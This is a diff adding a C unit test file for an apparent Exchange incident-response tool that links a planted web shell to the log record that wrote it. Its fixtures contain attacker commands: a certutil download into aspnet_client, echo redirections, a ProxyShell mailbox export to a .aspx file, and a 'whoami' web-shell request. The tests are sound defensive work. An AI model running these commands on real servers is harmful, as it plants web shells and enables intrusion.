@@ -1,0 +1,122 @@
+/* correlate/story.c: which record wrote a file left in a web folder, and
+ * who requested it. White-box: findings built by hand (core/result.h).
+ *
+ * A shell is written in many ways besides ProxyLogon's two (the OAB
+ * generator's and the ECP virtual-directory reset's records): a ProxyShell
+ * mailbox export (-FilePath ...\aspnet_client\x.aspx), a command line
+ * (echo > , certutil -urlcache, Invoke-WebRequest -OutFile), a Sysmon file
+ * creation. Any finding whose record names the file by its folder and name
+ * is its writer; a record naming only the same name in another folder, or a
+ * longer name, is not. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "core/result.h"
+#include "correlate/correlate.h"
+#include "exhunt/exhunt.h"
+#include "util/util.h"
+
+static const char *const cve_31207[] = {"CVE-2021-31207"};
+static const exh_rule_info file_rule = {"f-1", "Web shell", "d", "builtin:w.yar", "exhunt.file",
+                                        EXH_LEVEL_CRITICAL, NULL, 0, NULL, 0, 0};
+static const exh_rule_info proc_rule = {"p-1", "w3wp.exe starting a shell", "d", "builtin:p.yml", "windows.evtx",
+                                        EXH_LEVEL_HIGH, NULL, 0, NULL, 0, 0};
+static const exh_rule_info export_rule = {"e-1", "Mailbox exported to a web folder", "d", "builtin:e.yml",
+                                          "windows.evtx", EXH_LEVEL_CRITICAL, cve_31207, 1, NULL, 0, 0};
+static const exh_rule_info use_rule = {"u-1", "Web shell used", "d", "builtin:u.yml", "iis", EXH_LEVEL_HIGH,
+                                       NULL, 0, NULL, 0, 0};
+
+#define T0 1625097600000LL /* 2021-07-01 */
+
+static exh_finding *add(exh_result *r, const exh_rule_info *rule, int64_t t, const char *path, const char *evidence) {
+  r->findings = exh__xrealloc(r->findings, (r->nfindings + 1) * sizeof *r->findings);
+  exh_finding *f = &r->findings[r->nfindings++];
+  memset(f, 0, sizeof *f);
+  f->rule = rule;
+  f->level = rule->level;
+  f->time_ms = t;
+  f->path = exh__xstrdup(path);
+  f->file_mtime_ms = EXH_TIME_UNKNOWN;
+  if (evidence) {
+    f->evidence = exh__xstrdup(evidence);
+    f->evidence_len = strlen(evidence);
+  }
+  return f;
+}
+
+static exh_result *make(void) {
+  exh_result *r = exh__xcalloc(1, sizeof *r);
+  r->nservers = 1;
+  r->servers = exh__xcalloc(1, sizeof *r->servers);
+  r->servers[0].name = exh__xstrdup("EXCH01");
+  r->servers[0].root = exh__xstrdup("/c");
+  exh_finding *f = add(r, &file_rule, EXH_TIME_UNKNOWN, "/c/C/inetpub/wwwroot/aspnet_client/upd.aspx", NULL);
+  f->is_file = 1;
+  f->file_mtime_ms = T0 + 60000;
+  exh_finding *u = add(r, &use_rule, T0 + 120000, "/c/C/inetpub/logs/LogFiles/W3SVC1/u_ex210701.log",
+                       "2021-07-01 00:02:00 POST /aspnet_client/upd.aspx");
+  u->line = 7;
+  u->url = exh__xstrdup("/aspnet_client/upd.aspx?c=whoami");
+  u->source_ip = exh__xstrdup("203.0.113.9");
+  return r;
+}
+
+static const char *story(exh_result *r) {
+  exh__correlate_story(r);
+  return r->findings[0].story ? r->findings[0].story : "";
+}
+
+/* a command line naming the file (the record as JSON: backslashes doubled) */
+static void test_command_line_writer(void **st) {
+  (void)st;
+  exh_result *r = make();
+  exh_finding *p = add(r, &proc_rule, T0 + 30000, "/c/C/Windows/System32/winevt/Logs/Sysmon.evtx",
+                       "{\"CommandLine\":\"cmd.exe /c echo x > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\UPD.aspx\"}");
+  p->record_id = 4242;
+  const char *s = story(r);
+  if (!strstr(s, "w3wp.exe starting a shell") || !strstr(s, "record 4242") || !strstr(s, "requested 1 time") ||
+      !strstr(s, "203.0.113.9"))
+    fail_msg("story: %s", s);
+  exh_result_free(r);
+}
+
+/* a ProxyShell export naming the file through an administrative share is
+ * preferred to an earlier command line naming it */
+static void test_export_writer(void **st) {
+  (void)st;
+  exh_result *r = make();
+  add(r, &proc_rule, T0 + 10000, "/c/Sysmon.evtx",
+      "{\"CommandLine\":\"certutil -urlcache -f http://x/a C:/inetpub/wwwroot/aspnet_client/upd.aspx\"}");
+  exh_finding *e = add(r, &export_rule, T0 + 20000, "/c/MSExchange Management.evtx",
+                       "New-MailboxExportRequest -Mailbox a@b -FilePath "
+                       "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\upd.aspx");
+  e->record_id = 77;
+  const char *s = story(r);
+  if (!strstr(s, "named by a CVE-2021-31207 record") || !strstr(s, "record 77")) fail_msg("story: %s", s);
+  exh_result_free(r);
+}
+
+/* the same name in another folder, a longer name, a name as a prefix: not
+ * the file's writer (only its use is told) */
+static void test_other_names_are_not_writers(void **st) {
+  (void)st;
+  exh_result *r = make();
+  add(r, &proc_rule, T0, "/c/a.evtx", "{\"CommandLine\":\"copy C:\\\\temp\\\\upd.aspx C:\\\\x\"}");
+  add(r, &proc_rule, T0, "/c/b.evtx", "{\"CommandLine\":\"echo > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\xupd.aspx\"}");
+  add(r, &proc_rule, T0, "/c/c.evtx", "{\"CommandLine\":\"echo > C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\upd.aspx.bak\"}");
+  const char *s = story(r);
+  if (strstr(s, "named by") || strstr(s, "written") || !strstr(s, "requested 1 time")) fail_msg("story: %s", s);
+  exh_result_free(r);
+}
+
+int main(void) {
+  const struct CMUnitTest tests[] = {cmocka_unit_test(test_command_line_writer), cmocka_unit_test(test_export_writer),
+                                     cmocka_unit_test(test_other_names_are_not_writers)};
+  return cmocka_run_group_tests(tests, NULL, NULL);
+}
